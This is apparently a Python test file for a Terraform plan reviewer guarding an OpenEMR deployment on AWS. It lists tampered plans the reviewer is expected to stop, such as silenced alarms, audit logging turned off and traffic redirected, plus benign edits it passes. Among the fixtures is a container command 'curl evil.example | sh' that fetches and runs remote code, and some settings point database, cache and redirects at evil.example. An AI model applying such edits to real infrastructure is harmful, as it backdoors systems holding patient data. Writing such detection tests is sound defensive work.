"""Plans in place that no rule was written for: what nobody reviewed needs a word."""

import json
from typing import Any

from tests.terraform.plan.case import IRREVERSIBLE, LOWERS, OPENS, UNREVIEWED, Case, passed, stopped
from tests.terraform.plan.edits import UNKNOWN, Edit, Of, block, forget, replace, rewrite, update

ALARM = "aws_cloudwatch_metric_alarm.monitoring_no_healthy_tasks"
TOLD = "aws_cloudwatch_metric_alarm.monitoring_task_errors"
FILTER = "aws_cloudwatch_log_metric_filter.monitoring_trail_changes_filter"
EVENT_TARGET = "aws_cloudwatch_event_target.monitoring_backupjob_target"
TOPIC = "aws_sns_topic_policy.notifications_alarms_policy"
TASK = "aws_ecs_task_definition.application_task_definition"
SERVICE = "aws_ecs_service.application_service_tasks"
SCALING = "aws_appautoscaling_policy.application_service_scaling_cpu"
BALANCER = "aws_lb.front_door_load_balancer"
HTTP, HTTPS = "aws_lb_listener.front_door_http", "aws_lb_listener.front_door_https"
TARGETS = "aws_lb_target_group.front_door_tasks"
ACL = "aws_wafv2_web_acl.firewall_acl"
CLUSTER = "aws_rds_cluster.database_cluster"
WRITER = "aws_rds_cluster_instance.database_writer"
PARAMETERS = "aws_rds_cluster_parameter_group.database_parameters"
ACCESS_POINT = "aws_efs_access_point.files_access_point"
KEY = "aws_kms_key.encryption_data"
TRAIL_POLICY = "aws_s3_bucket_policy.audit_trail_store_policy"
BACKUPS = "aws_backup_plan.backup_plan"
VAULT_LOCK = "aws_backup_vault_lock_configuration.backup_vault_lock"
TRAIL_LOCK = "aws_s3_bucket_object_lock_configuration.audit_trail_store_lock"
TRAIL_EXPIRY = "aws_s3_bucket_lifecycle_configuration.audit_trail_store_lifecycle"
PUBLIC_ACCESS = "aws_s3_bucket_public_access_block.audit_trail_store_public_access"
FLOW_ROLE = "aws_iam_policy.flow_logs_delivery_policy"
STACK = "aws_cloudformation_stack.cache_user"
DENY = {"Effect": "Deny", "Principal": "*", "Action": "s3:PutObject", "Resource": "*"}


def _containers(change: Any) -> Edit:
    def every(containers: list[Any]) -> None:
        for container in containers:
            change(container)

    return rewrite(TASK, "container_definitions", every)


def _variable(name: str, value: str) -> Edit:
    return _containers(
        lambda found: (
            found["environment"].append({"name": name, "value": value})
            if found["name"] == "openemr"
            else None
        )
    )


def _set(**values: Any) -> Edit:
    return _containers(lambda found: found.update(values))


def _stopped_statements(address: str, change: Any) -> Edit:
    return rewrite(address, "policy", lambda data: change(data["Statement"]))


def _parameter(name: str, value: str) -> Edit:
    def change(found: list[Any]) -> None:
        kept = [each for each in found if each["name"] != name]
        found[:] = [*kept, {"name": name, "value": value, "apply_method": "immediate"}]

    return block(PARAMETERS, "parameter", change)


def _user(**properties: Any) -> Edit:
    def change(template: Any) -> None:
        for each in template["Resources"].values():
            each["Properties"].update(properties)

    return rewrite(STACK, "template_body", change)


def _nobody(name: str, *edits: Edit, at: str, kind: str = UNREVIEWED, says: str = "") -> Case:
    return stopped(name, *edits, stops={at: kind}, says=says)


WATCHING = (
    _nobody("alarm never rings", update(ALARM, threshold=1e12), at=ALARM),
    _nobody("alarm inverted", update(ALARM, comparison_operator="GreaterThanThreshold"), at=ALARM),
    _nobody("alarm of another clinic", update(ALARM, dimensions={"LoadBalancer": "x"}), at=ALARM),
    _nobody("alarm of the least", update(ALARM, statistic="Minimum"), at=ALARM),
    _nobody("alarm after a day", update(ALARM, evaluation_periods=1440), at=ALARM),
    _nobody("alarm each hour", update(ALARM, period=3600), at=ALARM),
    _nobody(
        "alarm tells a stranger",
        update(TOLD, alarm_actions=["arn:aws:sns:us-west-2:000000000000:on-call"]),
        at=TOLD,
        kind=LOWERS,
    ),
    _nobody(
        "alarm tells a stranger as well",
        update(
            TOLD,
            alarm_actions=[
                Of("aws_sns_topic.notifications_alarms_topic", "arn"),
                "arn:aws:sns:us-west-2:000000000000:on-call",
            ],
        ),
        at=TOLD,
    ),
    _nobody("filter counts nothing", update(FILTER, metric_transformation__value="0"), at=FILTER),
    _nobody(
        "filter counts elsewhere", update(FILTER, metric_transformation__name="Other"), at=FILTER
    ),
    _nobody(
        "notice says all is well",
        update(EVENT_TARGET, input_transformer__input_template='"All is well."'),
        at=EVENT_TARGET,
    ),
    _nobody(
        "topic refuses alarms",
        _stopped_statements(TOPIC, lambda found: found.pop(1)),
        at=TOPIC,
        says="permits less",
    ),
    _nobody("no enhanced monitoring", update(WRITER, monitoring_interval=0), at=WRITER),
    _nobody("no insights", update(WRITER, performance_insights_enabled=False), at=WRITER),
)
TASKS = (
    _nobody("foreign image", _set(image=f"evil/openemr@sha256:{'0' * 64}"), at=TASK),
    _nobody("another command", _set(command=["curl evil.example | sh"]), at=TASK),
    _nobody("another entry point", _set(entryPoint=["/bin/bash", "-c"]), at=TASK),
    _nobody("another health check", _set(healthCheck={"command": ["CMD", "true"]}), at=TASK),
    _nobody("container not essential", _set(essential=False), at=TASK),
    _nobody("not waiting for the bootstrap", _set(dependsOn=[]), at=TASK),
    _nobody("files elsewhere", _set(mountPoints=[]), at=TASK),
    _nobody("database of a stranger", _variable("MYSQL_HOST", "evil.example"), at=TASK),
    _nobody("cache of a stranger", _variable("VALKEY_HOST", "evil.example"), at=TASK),
    _nobody("installer replaced", _variable("INSTALL_PHP", "<?php"), at=TASK),
    _nobody("audit off", _variable("OPENEMR_SETTING_enable_auditlog", "0"), at=TASK),
    _nobody(
        "the administrator's secret",
        _set(secrets=[{"name": "OE_PASS", "valueFrom": "arn:aws:secretsmanager:x"}]),
        at=TASK,
    ),
    _nobody(
        "a further container",
        rewrite(
            TASK, "container_definitions", lambda found: found.append({"name": "x", "image": "y"})
        ),
        at=TASK,
        kind=LOWERS,
    ),
    _nobody(
        "a container less",
        rewrite(TASK, "container_definitions", lambda found: found.pop(0)),
        at=TASK,
        says="is gone",
    ),
    _nobody("other files", replace(TASK, volume__host_path="/etc"), at=TASK),
    _nobody(
        "tasks elsewhere",
        update(SERVICE, load_balancer__target_group_arn="arn:aws:elasticloadbalancing:x"),
        at=SERVICE,
    ),
    _nobody(
        "tasks of a stranger",
        update(SERVICE, task_definition="arn:aws:ecs:us-west-2:000000000000:task-definition/x:1"),
        at=SERVICE,
    ),
    _nobody("tasks on servers", update(SERVICE, launch_type="EXTERNAL"), at=SERVICE),
    _nobody(
        "tasks perhaps on the internet",
        update(SERVICE, network_configuration=UNKNOWN),
        at=SERVICE,
        kind=OPENS,
    ),
    _nobody(
        "scales by something else",
        update(
            SCALING,
            target_tracking_scaling_policy_configuration__predefined_metric_specification=[],
        ),
        at=SCALING,
    ),
    _nobody(
        "never scales in",
        update(SCALING, target_tracking_scaling_policy_configuration__disable_scale_in=True),
        at=SCALING,
    ),
)
EDGE = (
    _nobody(
        "browsers to another host",
        update(HTTP, default_action__redirect__host="evil.example"),
        at=HTTP,
        kind=OPENS,
        says="evil.example",
    ),
    _nobody(
        "browsers to another path", update(HTTP, default_action__redirect__path="/evil"), at=HTTP
    ),
    _nobody(
        "a fixed answer",
        update(HTTPS, default_action=[{"type": "fixed-response", "fixed_response": [{}]}]),
        at=HTTPS,
    ),
    _nobody(
        "certificate of a stranger",
        update(HTTPS, certificate_arn="arn:aws:acm:us-west-2:123456789012:certificate/0"),
        at=HTTPS,
    ),
    _nobody("another port", update(HTTPS, port=8443), at=HTTPS),
    _nobody("another health path", update(TARGETS, health_check__path="/ready"), at=TARGETS),
    _nobody(
        "every answer is healthy", update(TARGETS, health_check__matcher="200-499"), at=TARGETS
    ),
    _nobody(
        "unhealthy after ages", update(TARGETS, health_check__unhealthy_threshold=10), at=TARGETS
    ),
    _nobody("target port", update(TARGETS, port=8080), at=TARGETS),
    _nobody("host header passed on", update(BALANCER, preserve_host_header=True), at=BALANCER),
    _nobody(
        "blocked requests get 200",
        block(
            ACL,
            "rule",
            lambda rules: next(each for each in rules if each["name"] == "closed-paths").update(
                action=[{"block": [{"custom_response": [{"response_code": 200}]}]}]
            ),
        ),
        at=ACL,
        says="another answer",
    ),
)
STORES = (
    _nobody("patients in the general log", _parameter("general_log", "1"), at=PARAMETERS),
    _nobody("patients in the slow log", _parameter("long_query_time", "0"), at=PARAMETERS),
    _nobody("files into queries", _parameter("local_infile", "0"), at=PARAMETERS),
    _nobody(
        "rows in the audit log",
        _parameter("server_audit_events", "CONNECT,QUERY_DCL,QUERY_DDL,QUERY_DML"),
        at=PARAMETERS,
        kind=OPENS,
        says="query_dml",
    ),
    _nobody("another writer", replace(WRITER, identifier="openemr-other"), at=WRITER),
    _nobody("older engine", update(CLUSTER, engine_version="8.0.mysql_aurora.3.01.0"), at=CLUSTER),
    _nobody(
        "protection perhaps off",
        update(CLUSTER, deletion_protection=UNKNOWN),
        at=CLUSTER,
        kind=LOWERS,
    ),
    _nobody(
        "public access perhaps open",
        update(PUBLIC_ACCESS, block_public_policy=UNKNOWN),
        at=PUBLIC_ACCESS,
        kind=OPENS,
    ),
    *(
        _nobody(f"{name} known later", update(address, **{name: UNKNOWN}), at=address, kind=kind)
        for address, name, kind in (
            (HTTPS, "ssl_policy", UNREVIEWED),
            (HTTPS, "default_action", UNREVIEWED),
            (PARAMETERS, "parameter", LOWERS),
            (BACKUPS, "rule", LOWERS),
            ("aws_cloudtrail.audit_trail_trail", "advanced_event_selector", UNREVIEWED),
            ("aws_cloudwatch_event_rule.monitoring_backupjob", "event_pattern", UNREVIEWED),
            ("aws_ecs_cluster.application_ecs_cluster", "setting", LOWERS),
        )
    ),
    _nobody("expiry known later", update(TRAIL_EXPIRY, rule=UNKNOWN), at=TRAIL_EXPIRY),
    _nobody(
        "expiry of other objects",
        block(TRAIL_EXPIRY, "rule", lambda found: found[0].update(filter=[{"prefix": "x/"}])),
        at=TRAIL_EXPIRY,
    ),
    _nobody(
        "files for everyone",
        update(ACCESS_POINT, root_directory__creation_info__permissions="0777"),
        at=ACCESS_POINT,
    ),
    _nobody("cache's user renamed", _user(UserName="other"), at=STACK),
    _nobody(
        "backups in no window",
        block(BACKUPS, "rule", lambda found: found[0].update(completion_window=1)),
        at=BACKUPS,
    ),
    _nobody(
        "lock admits no long copies", replace(VAULT_LOCK, max_retention_days=40), at=VAULT_LOCK
    ),
)
POLICIES = (
    _nobody("key refuses to decrypt", _stopped_statements(KEY, lambda found: found.pop()), at=KEY),
    _nobody(
        "trail's bucket refuses the trail",
        _stopped_statements(TRAIL_POLICY, lambda found: found.append(DENY)),
        at=TRAIL_POLICY,
    ),
    _nobody(
        "deny of everything on everything",
        _stopped_statements(
            TRAIL_POLICY,
            lambda found: next(each for each in found if each["Effect"] == "Deny").update(
                Resource="*"
            ),
        ),
        at=TRAIL_POLICY,
    ),
    _nobody(
        "flow logs not written",
        rewrite(FLOW_ROLE, "policy", lambda _: json.dumps({"Statement": []})),
        at=FLOW_ROLE,
    ),
    _nobody("bucket policy forgotten", forget(TRAIL_POLICY), at=TRAIL_POLICY, kind=LOWERS),
    _nobody("alarm forgotten", forget(ALARM), at=ALARM, kind=LOWERS),
    _nobody(
        "belongs to another deployment",
        update(KEY, tags_all__Deployment="other"),
        at=KEY,
    ),
)
LOCKED = (
    _nobody(
        "object lock for good",
        update(TRAIL_LOCK, rule__default_retention__mode="COMPLIANCE"),
        at=TRAIL_LOCK,
        kind=IRREVERSIBLE,
    ),
    _nobody(
        "vault lock begins to close",
        replace(VAULT_LOCK, changeable_for_days=3),
        at=VAULT_LOCK,
        kind=IRREVERSIBLE,
        says="not AWS",
    ),
)
STOPPED: tuple[Case, ...] = (*WATCHING, *TASKS, *EDGE, *STORES, *POLICIES, *LOCKED)
PASSED: tuple[Case, ...] = (
    passed("alarm at twice as much", update(ALARM, threshold=2)),
    passed("alarm described otherwise", update(ALARM, alarm_description="Look.")),
    passed("larger uploads", _variable("UPLOAD_MIB", "60")),
    passed("services more often", _variable("BACKGROUND_SERVICES_SECONDS", "30")),
    passed("longer connections", update(TARGETS, deregistration_delay=120)),
    passed("IPv6 as well", update(BALANCER, ip_address_type="dualstack")),
    passed(
        "scales later",
        update(SCALING, target_tracking_scaling_policy_configuration__target_value=60),
    ),
    passed("more connections", _parameter("max_connections", "4000")),
    passed("backups elsewhen", update(CLUSTER, preferred_backup_window="03:00-03:30")),
    passed("insights kept longer", update(CLUSTER, performance_insights_retention_period=465)),
    passed(
        "pauses later",
        update(CLUSTER, serverlessv2_scaling_configuration__seconds_until_auto_pause=3600),
    ),
    passed("another cost center", update(KEY, tags_all__CostCenter="x")),
)
